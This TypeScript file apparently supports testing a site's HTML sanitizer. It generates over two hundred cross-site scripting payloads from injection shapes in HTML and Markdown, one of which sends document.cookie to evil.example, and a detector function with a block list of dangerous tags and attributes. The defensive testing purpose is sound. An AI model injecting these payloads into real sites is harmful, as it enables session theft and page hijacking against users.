/** Ways in which words have become script, style or a way out on other sites; `{x}` is where the harm stands. */
const harms = [
  'alert(1)',
  'fetch("https://evil.example/?c="+document.cookie)',
  'document.write("<img src=https://evil.example>")',
  'eval(atob("YWxlcnQoMSk="))',
] as const

const shapes = [
  '<script>{x}</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>{x}',
  '<scr<script>ipt>{x}</scr</script>ipt>',
  '<img src=x onerror="{x}">',
  '<img/src=x/onerror={x}>',
  '<svg onload="{x}">',
  '<svg><script>{x}</script></svg>',
  '<svg><animate onbegin="{x}" attributeName=x dur=1s>',
  '<body onload="{x}">',
  '<iframe src="javascript:{x}"></iframe>',
  '<iframe srcdoc="<script>{x}</script>"></iframe>',
  '<object data="javascript:{x}"></object>',
  '<embed src="javascript:{x}">',
  '<a href="javascript:{x}">les</a>',
  '<a href="&#106;avascript:{x}">les</a>',
  '<a href=" java\nscript:{x}">les</a>',
  '<form action="https://evil.example"><button>{x}</button></form>',
  '<input onfocus="{x}" autofocus>',
  '<details open ontoggle="{x}">',
  '<marquee onstart="{x}">',
  '<video><source onerror="{x}"></video>',
  '<style>@import "https://evil.example/x.css";</style>{x}',
  '<link rel=stylesheet href="https://evil.example/x.css">{x}',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">{x}',
  '<base href="https://evil.example/">{x}',
  '<div style="background:url(https://evil.example/{x})">',
  '<math><mtext><table><mglyph><style><img src=x onerror="{x}">',
  '<noscript><p title="</noscript><img src=x onerror={x}>">',
  '"><script>{x}</script>',
  "'-{x}-'",
  '</textarea><script>{x}</script>',
  '</title><script>{x}</script>',
  '--><script>{x}</script><!--',
  ']]><script>{x}</script>',
  '[les](javascript:{x})',
  '[les](JaVaScRiPt:{x})',
  '[les](javascript&#58;{x})',
  '[les](&#x6A;avascript:{x})',
  '[les](data:text/html;base64,PHNjcmlwdD4=){x}',
  '[les](vbscript:{x})',
  '[les](\tjavascript:{x})',
  '[les](https://evil.example" onclick="{x})',
  '![bilde](x" onerror="{x})',
  '![bilde](https://evil.example/x.png){x}',
  '<javascript:{x}>',
  '[les]: javascript:{x}\n\n[les]',
  '`<script>{x}</script>`',
  '```html\n<script>{x}</script>\n```',
  '> <script>{x}</script>',
  '- <img src=x onerror={x}>',
  '## <svg onload={x}>',
  '{{fragment/<script>{x}</script>}}',
  '{{role/"><img src=x onerror={x}>}}',
] as const

/** Two hundred and more. */
export const attacks: readonly string[] = shapes.flatMap((shape) => harms.map((harm) => shape.replaceAll('{x}', harm)))

const element = /<([a-zA-Z][\w-]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/g
const attribute = /([^\s=/"'>]+)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/g
const forbidden = new Set([
  'iframe',
  'object',
  'embed',
  'style',
  'base',
  'marquee',
  'math',
  'video',
  'audio',
  'noscript',
  'animate',
])

const kept = /^(\/[a-z0-9-]+)*\/filer\/[0-9a-f]{64}-\d+x\d+\.webp$/

/** What on a page of ours could run, restyle it or reach another host; nothing, if all is well. `own`: what we put there ourselves. */
export function harmfulIn(html: string): readonly string[] {
  const found: string[] = []
  for (const [whole, name = '', rest = ''] of html.matchAll(element)) {
    const tag = name.toLowerCase()
    const given = new Map(
      [...rest.matchAll(attribute)].map(([, key = '', value = '']) => [
        key.toLowerCase(),
        value.replaceAll(/^["']|["']$/g, ''),
      ]),
    )
    // The page's own address stands in its head in full.
    if (tag === 'link' && /^(canonical|alternate)$/.test(given.get('rel') ?? '')) continue
    if (forbidden.has(tag)) found.push(whole)
    if (tag === 'script' && !/^\/assets\/[\w.-]+$/.test(given.get('src') ?? '')) found.push(whole)
    // Only what content keeps is a picture.
    if (tag === 'img' && !kept.test(given.get('src') ?? '')) found.push(whole)
    if (tag === 'meta' && given.has('http-equiv')) found.push(whole)
    if (tag === 'form' && !(given.get('action') ?? '').startsWith('/')) found.push(whole)
    for (const [key, value] of given) {
      if (key.startsWith('on') || key === 'style' || key === 'srcdoc') found.push(whole)
      // Our own buttons may send a form elsewhere on our own host.
      if (key === 'formaction' && !/^\/(?![/\\])/.test(value)) found.push(whole)
      const isReference = key === 'href' || key === 'src' || key === 'action' || key === 'xlink:href'
      if (isReference && !/^(https:\/\/|tel:|sms:|mailto:|\/|#|\?)/.test(value.replaceAll('&amp;', '&')))
        found.push(whole)
      if (key === 'src' && !value.startsWith('/')) found.push(whole)
    }
  }
  return found
}
